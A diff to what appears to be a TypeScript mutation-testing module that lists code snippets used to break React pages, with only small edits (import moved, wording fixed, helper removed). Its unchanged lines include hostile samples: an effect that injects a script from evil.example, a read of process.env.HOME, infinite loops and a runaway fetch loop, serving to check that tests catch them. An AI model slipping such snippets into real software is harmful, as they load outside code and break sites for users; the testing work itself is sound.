@@ -1,4 +1,4 @@
-import { type Mutation, mutationsAt } from './mutation.ts';
+import { type Mutation, mutationsAt, withEffect } from './mutation.ts';
 import { type Place, placesOf } from './places.ts';
 import { SUBJECT } from './subject.ts';
 
@@ -10,7 +10,7 @@ const STATEMENTS = {
   'render reads process': 'void process.env.HOME.length;',
   'render never ends': 'for (;;);',
   'render warns': "console.warn('left over');",
-  'render suspends for ever': 'throw new Promise(() => {});',
+  'render suspends forever': 'throw new Promise(() => {});',
   'render evaluates text': "void new Function('return 1')();",
 };
 
@@ -27,7 +27,7 @@ const EFFECTS = {
   'effect inserts a script':
     "document.head.append(Object.assign(document.createElement('script'), { src: 'https://evil.example/a.js' }));",
   'effect leaves the page': "location.href = '/faq';",
-  'effect requests for ever':
+  'effect requests forever':
     "const ask = () => void fetch('/api/categories').then(ask, ask); for (let i = 0; i < 5; i++) ask();",
   'effect fails later': "setTimeout(() => { throw new Error('broken'); }, 20);",
   'effect empties the page': "document.querySelector('main').remove();",
@@ -149,17 +149,6 @@ const MANIFEST: Readonly<Record<string, (manifest: Record<string, unknown>) => o
 };
 
 const effect = (body: string) => `useEffect(() => { ${body} }, []);`;
-
-/** Imports `useEffect`, if the file uses it. */
-const withEffect = (mutation: Mutation): Mutation => ({
-  ...mutation,
-  files: Object.fromEntries(
-    Object.entries(mutation.files).map(([file, text]) => [
-      file,
-      text.includes('useEffect(') ? `import { useEffect } from 'react';${text}` : text,
-    ]),
-  ),
-});
 
 /** All mutations that break a page or a release. */
 export function breaks(): Mutation[] {
